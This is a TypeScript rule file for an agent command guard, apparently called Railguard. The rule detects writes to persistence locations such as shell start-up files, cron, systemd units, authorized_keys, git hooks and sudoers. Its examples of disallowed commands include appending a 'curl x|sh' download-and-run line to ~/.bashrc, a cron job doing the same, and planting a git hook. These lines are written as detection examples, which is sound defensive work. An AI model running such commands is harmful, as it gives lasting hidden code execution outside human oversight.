import { compileCatalogue, PERSISTENCE_PATHS } from '../../resources/protected-paths';
import { pathGlobMatch } from '../../resources/path-glob';
import { fileEffects } from '../../shell/file-effects';
import { defineShellRule } from '../rule';

const PERSISTENCE = compileCatalogue(PERSISTENCE_PATHS);

/**
 * Writes to files that make code run again later: shell start-up files, cron tables, systemd and
 * launchd units, `authorized_keys`, git hooks and configuration, sudoers. Category `privilege`:
 * persistence gives lasting execution beyond the action that was judged (MITRE ATT&CK TA0003).
 */
export default defineShellRule({
  meta: {
    id: 'persistence-path-write',
    title: 'Writing a file that makes code run again later',
    category: 'privilege',
    severity: 'warning',
    docs: {
      description:
        'Flags writes, appends and overwrites of shell rc files, cron, systemd/launchd units, authorized_keys, git hooks and configuration, and sudoers.',
      problem:
        'A line appended to `~/.bashrc`, a cron entry, a systemd unit, a key in `authorized_keys` ' +
        'or a git hook runs later, outside the action Railguard judged, with nobody watching; so does ' +
        "a command set in git's configuration (`git config --global core.pager CMD`, a `!` alias, " +
        '`core.hooksPath DIR`). ' +
        'It is how an attacker (or a prompt-injected agent) keeps access.',
      solution:
        'Make such changes yourself, reviewed, through the tool meant for them (`crontab -e`, ' +
        '`systemctl edit`, a dotfiles repository). The default policy asks before an agent does.',
    },
    messages: {
      write: '`{{via}}` {{verb}} `{{path}}` ({{what}}): code placed there runs again later.',
    },
    controls: ['NIST:CM-5', 'NIST:SI-7', 'SOC2:CC6.8'],
    sources: ['issue 9 §5 (persistence asks)', 'https://attack.mitre.org/tactics/TA0003/'],
    examples: {
      valid: [
        'cat ~/.bashrc',
        'echo hi >> notes.txt',
        'source ~/.bashrc',
        'ls .git/hooks',
        'git config --global user.name x',
      ],
      invalid: [
        "echo 'curl x|sh' >> ~/.bashrc",
        'cp evil.sh .git/hooks/pre-commit',
        'tee -a ~/.ssh/authorized_keys',
        'echo "* * * * * curl x|sh" > /etc/cron.d/job',
        'git config --global core.hooksPath /tmp/hooks',
      ],
    },
  },
  check(cmd, analysis, report) {
    for (const fx of fileEffects(cmd, analysis)) {
      const path = fx.effect.resource.id;
      if (path === undefined || fx.effect.verb === 'destroy' || fx.effect.verb === 'grant') continue;
      const hit = PERSISTENCE.find((c) => c.globs.some((g) => pathGlobMatch(g, path)));
      if (!hit) continue;
      const verb = fx.effect.verb === 'write' ? 'appends to' : 'overwrites';
      report({
        messageId: 'write',
        data: { via: fx.effect.via ?? 'the command', verb, path, what: hit.entry.what },
        span: fx.span,
        effects: [{ ...fx.effect, verb: 'persist' }],
      });
    }
  },
});
